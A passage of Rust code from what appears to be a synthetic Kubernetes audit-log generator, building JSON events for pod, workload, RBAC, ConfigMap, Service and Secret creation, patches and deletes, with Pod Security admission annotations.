        self.bodies(ev, obj)
    }

    fn create_pod(&mut self) -> Value {
        let app = self.r.pick(APPS);
        let (spec, issues) = self.pod_spec(app, 0);
        let ns = self.r.pick(NAMESPACES);
        if self.r.odds(350) {
            let name = if self.r.odds(300) {
                format!("debug-{}", self.r.hex(5))
            } else {
                app.to_string()
            };
            let t = Target {
                res: "pods",
                group: "",
                ns: Some(ns.into()),
                name: Some(name.clone()),
                sub: None,
            };
            let obj = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": ns, "labels": {"run": name}}, "spec": spec});
            return self.human_create(&t, obj, &issues);
        }
        let (c, kind, api) = self.r.pick(&[
            ("replicaset-controller", "ReplicaSet", "apps/v1"),
            ("replicaset-controller", "ReplicaSet", "apps/v1"),
            ("daemon-set-controller", "DaemonSet", "apps/v1"),
            ("job-controller", "Job", "batch/v1"),
        ]);
        let who = self.controller(c);
        let hash = self.r.hex(10);
        let owner = if kind == "ReplicaSet" {
            format!("{app}-{hash}")
        } else {
            app.to_string()
        };
        let refs = json!([{"apiVersion": api, "kind": kind, "name": owner, "uid": Rng::of(&owner).uuid(), "controller": true, "blockOwnerDeletion": true}]);
        let obj = json!({"kind": "Pod", "apiVersion": "v1", "spec": spec, "metadata": {"generateName": format!("{owner}-"),
            "namespace": ns, "labels": {"app": app, "pod-template-hash": hash}, "ownerReferences": refs}});
        let t = Target {
            res: "pods",
            group: "",
            ns: Some(ns.into()),
            name: None,
            sub: None,
        };
        let level = if self.r.odds(450) {
            "RequestResponse"
        } else {
            "Request"
        };
        let code = self.code(201, "create");
        let mut ev = self.emit(&who, "create", Some(&t), t.uri(""), level, code);
        pod_security(&mut ev, &issues, "pods");
        self.bodies(ev, obj)
    }

    fn create_workload(&mut self) -> Value {
        let (app, ns) = (self.r.pick(APPS), self.r.pick(NAMESPACES));
        let (res, group, kind) = self.r.weighted(&[
            (50, ("deployments", "apps", "Deployment")),
            (25, ("daemonsets", "apps", "DaemonSet")),
            (25, ("cronjobs", "batch", "CronJob")),
        ]);
        let (mut spec, issues) = self.pod_spec(app, if res == "daemonsets" { 250 } else { 0 });
        let name = match res {
            "cronjobs" => format!("{app}-{}", self.r.pick(&["backup", "report", "cleanup"])),
            "daemonsets" => format!("{app}-agent"),
            _ => app.to_string(),
        };
        let selector = json!({"matchLabels": {"app": app}});
        let body = match res {
            "cronjobs" => {
                spec["restartPolicy"] = json!("OnFailure");
                let job = json!({"backoffLimit": 2, "template": {"metadata": {"labels": {"app": app}}, "spec": spec}});
                json!({"schedule": self.r.pick(&["*/15 * * * *", "0 2 * * *", "*/1 * * * *"]), "concurrencyPolicy": "Forbid",
                    "successfulJobsHistoryLimit": 3, "jobTemplate": {"spec": job}})
            }
            "daemonsets" => {
                json!({"selector": selector, "template": {"metadata": {"labels": {"app": app}}, "spec": spec},
                "updateStrategy": {"type": "RollingUpdate"}})
            }
            _ => {
                json!({"replicas": self.r.range(1, 5), "selector": selector, "template": {"metadata": {"labels": {"app": app}}, "spec": spec},
                "strategy": {"type": "RollingUpdate", "rollingUpdate": {"maxSurge": "25%", "maxUnavailable": "25%"}}, "revisionHistoryLimit": 10})
            }
        };
        let obj = json!({"apiVersion": format!("{group}/v1"), "kind": kind, "metadata": self.meta(&name, Some(ns), app), "spec": body});
        let t = Target {
            res,
            group,
            ns: Some(ns.into()),
            name: Some(name),
            sub: None,
        };
        self.human_create(&t, obj, &issues)
    }

    fn create_rbac(&mut self) -> Value {
        let (res, kind) = self.r.weighted(&[
            (45, ("clusterrolebindings", "ClusterRoleBinding")),
            (40, ("rolebindings", "RoleBinding")),
            (15, ("clusterroles", "ClusterRole")),
        ]);
        let app = self.r.pick(APPS);
        let ns = (res == "rolebindings").then(|| self.r.pick(NAMESPACES));
        let role = if self.r.odds(if res == "clusterrolebindings" {
            250
        } else {
            100
        }) {
            "cluster-admin"
        } else {
            self.r.pick(&["view", "edit", "admin"])
        };
        let name = if res == "clusterroles" {
            format!("{app}-reader")
        } else {
            format!("{app}-{role}")
        };
        let mut obj = json!({"apiVersion": format!("{RBAC}/v1"), "kind": kind, "metadata": self.meta(&name, ns, app)});
        if res == "clusterroles" {
            let verbs = if self.r.odds(200) {
                json!(["*"])
            } else {
                json!(["get", "list", "watch"])
            };
            obj["rules"] = json!([{"apiGroups": [""], "resources": ["pods", "pods/log", "configmaps"], "verbs": verbs},
                {"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["get", "list"]}]);
        } else {
            obj["subjects"] = json!([match self.r.range(0, 2) {
                0 => json!({"kind": "User", "name": "alice@example.com", "apiGroup": RBAC}),
                1 => json!({"kind": "Group", "name": "developers", "apiGroup": RBAC}),
                _ =>
                    json!({"kind": "ServiceAccount", "name": format!("{app}-sa"), "namespace": ns.unwrap_or("default")}),
            }]);
            obj["roleRef"] = json!({"apiGroup": RBAC, "kind": "ClusterRole", "name": role});
        }
        let t = Target {
            res,
            group: RBAC,
            ns: ns.map(String::from),
            name: Some(name),
            sub: None,
        };
        self.human_create(&t, obj, &[])
    }

    fn create_other(&mut self) -> Value {
        let res = self
            .r
            .weighted(&[(40, "configmaps"), (35, "services"), (25, "secrets")]);
        let t = self.target(res, true, false);
        let app = self.r.pick(APPS);
        let ns = t.ns.clone().unwrap_or_default();
        let meta = self.meta(t.name.as_deref().unwrap_or(app), t.ns.as_deref(), app);
        let obj = match res {
            "configmaps" => json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": meta,
                "data": {"LOG_LEVEL": "info", "app.properties": format!("server.port=8080\ncache.host=redis.{ns}.svc.cluster.local\n")}}),
            "services" => {
                json!({"apiVersion": "v1", "kind": "Service", "metadata": meta, "spec": {"type": self.r.pick(&["ClusterIP", "LoadBalancer", "NodePort"]),
                "selector": {"app": app}, "ports": [{"name": "http", "port": 80, "targetPort": 8080, "protocol": "TCP"}]}})
            }
            _ => {
                // Secrets are audited at Metadata level: no body.
                let who = self.who(HUMANS);
                let code = self.code(201, "create");
                return self.emit(
                    &who,
                    "create",
                    Some(&t),
                    t.uri("fieldManager=kubectl-create&fieldValidation=Strict"),
                    "Metadata",
                    code,
                );
            }
        };
        self.human_create(&t, obj, &[])
    }

    fn patch(&mut self) -> Value {
        let who = self.who(HUMANS);
        let mut t = self.target("deployments", true, false);
        let (query, obj) = if self.r.odds(600) {
            let restarted = json!({"kubectl.kubernetes.io/restartedAt": stamp(self.now, false)});
            (
                "fieldManager=kubectl-rollout",
                json!({"spec": {"template": {"metadata": {"annotations": restarted}}}}),
            )
        } else {
            t.sub = Some("scale");
            (
                "fieldManager=kubectl-scale",
                json!({"spec": {"replicas": self.r.range(0, 10)}}),
            )
        };
        let code = self.code(200, "patch");
        let ev = self.emit(&who, "patch", Some(&t), t.uri(query), "Request", code);
        self.bodies(ev, obj)
    }

    fn delete(&mut self) -> Value {
        let who = self.who(&[(45, As::Controller), (35, As::Iam), (20, As::Oidc)]);
        let res = self.r.weighted(&[
            (45, "pods"),
            (15, "configmaps"),
            (10, "secrets"),
            (10, "deployments"),
            (10, "events"),
            (10, "rolebindings"),
        ]);
        let t = self.target(res, true, false);
        let code = self.code(200, "delete");
        self.emit(&who, "delete", Some(&t), t.uri(""), "Metadata", code)
    }
}

/// Pod Security admission annotations on a successful pod or workload create.
fn pod_security(ev: &mut Value, issues: &[String], res: &str) {
    if ev["responseStatus"]["code"] != 201
        || !matches!(res, "pods" | "deployments" | "daemonsets" | "cronjobs")
    {
        return;
    }
    if res == "pods" {
        let policy = if issues.is_empty() {
            "restricted:latest"
        } else {
            "privileged:latest"
        };
        ev["annotations"]["pod-security.kubernetes.io/enforce-policy"] = json!(policy);
    }
    if !issues.is_empty() {
        let violations = format!(
            "would violate PodSecurity \"baseline:latest\": {}",
            issues.join(", ")
        );
        ev["annotations"]["pod-security.kubernetes.io/audit-violations"] = json!(violations);
    }
}
